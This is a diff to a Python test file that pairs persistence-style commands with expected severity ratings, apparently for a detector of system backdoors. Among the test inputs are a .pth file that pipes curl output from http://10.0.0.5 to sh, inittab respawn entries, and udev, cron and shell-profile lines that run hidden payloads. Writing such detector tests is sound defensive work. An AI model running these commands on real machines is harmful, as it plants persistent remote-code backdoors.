@@ -194,10 +194,16 @@ def test_identity_backdoors(command, expected):
     ("echo 'import os; os.system(\"curl -s http://10.0.0.5/a | sh\")' > /usr/lib/python3/dist-packages/u.pth",
      "high"),
     ("echo 'u:2345:respawn:/dev/shm/u' >> /etc/inittab", "medium"),
+    # a variable of the writing shell as the whole command: what it held runs, unseen
+    ("echo \"SUBSYSTEM==\\\"usb\\\", RUN+=\\\"$PAYLOAD\\\"\" | sudo tee /etc/udev/rules.d/70-usb.rules", "medium"),
+    ("echo \"*/5 * * * * root $JOB\" >> /etc/cron.d/sync", "medium"),
+    ("echo \"${AGENT} &\" >> ~/.zprofile", "medium"),
     ("printf '[Service]\\nExecStart=/tmp/u\\n' > ~/.config/systemd/user/u.socket", "medium"),
     ("echo '/tmp/u &' > ~/.config/autostart-scripts/u.sh", "medium"),
     # everyday
     (r'reg add "HKCU\Control Panel\Desktop" /v ScreenSaveTimeOut /d 600 /f', "quiet"),
+    ("echo '$HOME/bin/start-agent.sh' >> ~/.profile", "quiet"),
+    ("echo 'eval \"$(starship init zsh)\"' >> ~/.zshrc", "quiet"),
     (r'reg add HKCU\Software\Classes\txtfile\shell\open\command /ve '
      r'/d "\"C:\Program Files\Notepad++\notepad++.exe\" \"%1\"" /f', "quiet"),
     (r'reg add "HKCU\Software\Microsoft\Command Processor" /v AutoRun /d "C:\Users\me\cmdrc.cmd" /f', "quiet"),
